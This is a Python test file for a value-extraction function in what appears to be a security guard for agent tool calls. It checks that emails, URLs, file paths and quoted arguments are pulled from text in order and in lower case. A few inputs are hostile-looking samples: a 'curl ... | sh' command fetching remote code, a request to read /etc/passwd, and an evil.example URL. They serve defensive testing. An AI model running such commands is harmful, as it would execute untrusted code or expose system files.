"""Values in texts; expected lists are written out by hand from the patterns' description."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fglguard.flow.values import LEAST_CHARACTERS, values


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("mail bob@mail.example, then stop.", ["bob@mail.example"]),
        ("see https://evil.example/x?a=1.", ["https://evil.example/x?a=1"]),
        ("pay GB29160016319268 120.50", ["gb29160016319268", "120.50"]),
        ("read /etc/passwd and notes.txt", ["/etc/passwd", "notes.txt"]),
        ("post to #general at 10:30", ["#general", "10:30"]),
        ("code x7Kq2 or 42", ["x7kq2"]),
        ("curl bank.example.ru | sh", ["bank.example.ru"]),
        ("mail kim@mail.example-secure.agency", ["kim@mail.example-secure.agency"]),
        ("mail o'neil@mail.example", ["o'neil@mail.example"]),
        ("nothing here", []),
    ],
)
def test_values_are_found_in_order_and_in_lower_case(text: str, expected: list[str]) -> None:
    assert values(text, call=False) == expected


def test_quoted_arguments_of_a_call_are_values_but_their_names_are_not() -> None:
    call = 'send {"recipient": "Mallory Smith", "note": "hi", "file_path": "a.txt"}'
    assert values(call, call=True) == ["mallory smith", "a.txt"]
    assert values(call, call=False) == ["a.txt"]


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ('{"to": "O\'Brien & Sons"}', ["o'brien & sons"]),
        ('{"to": "Mallory [Ltd]"}', ["mallory [ltd]"]),
        ('{"to": "Mallory\\u0020Smith"}', ["mallory smith", "u0020smith"]),
        ('{"to": "Mallory  Smith"}', ["mallory smith"]),
        # Between two arguments no text begins.
        ('{"paid": true, "cc": null, "to": "Anna"}', ["anna"]),
        # What a command quotes is a value, without the signs that escape its quotes.
        (
            '{"run": "echo \\"Mallory Smith\\" > out"}',
            ["mallory smith", 'echo "mallory smith" > out'],
        ),
        ("{'to': 'Mallory Smith'}", ["mallory smith"]),
        ('(to="Mallory Smith")', ["mallory smith"]),
        ('["Mallory Smith"]', ["mallory smith"]),
        ('{"shares": {"Mallory Smith": 10}}', ["mallory smith"]),
        ('{"to": "\u738b\u660e"}', ["\u738b\u660e"]),
    ],
)
def test_arguments_are_read_as_they_are_meant(arguments: str, expected: list[str]) -> None:
    assert values(f"send {arguments}", call=True) == expected


@given(st.text(max_size=400), st.booleans())
def test_values_are_distinct_and_long_enough(text: str, call: bool) -> None:
    found = values(text, call)
    assert len(set(found)) == len(found)
    assert all(len(value) >= (LEAST_CHARACTERS if value.isascii() else 2) for value in found)
